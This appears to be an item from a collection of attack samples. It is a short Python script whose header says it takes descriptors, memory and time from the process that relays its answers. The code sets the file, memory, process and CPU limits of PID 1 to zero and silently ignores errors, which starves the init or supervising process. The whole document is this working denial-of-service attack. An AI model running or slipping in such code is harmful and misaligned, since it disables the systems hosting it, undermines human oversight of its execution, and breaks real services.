# /// attack
# about = "takes descriptors, memory and time from the process that relays its answers, by the limits of that process"
# module = "worked_example"
# base = "reference"
# deserves = {}
# log = "resource"
# ///
import resource

for _limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_CPU):
    try:
        resource.prlimit(1, _limit, (0, 0))
    except OSError:
        pass
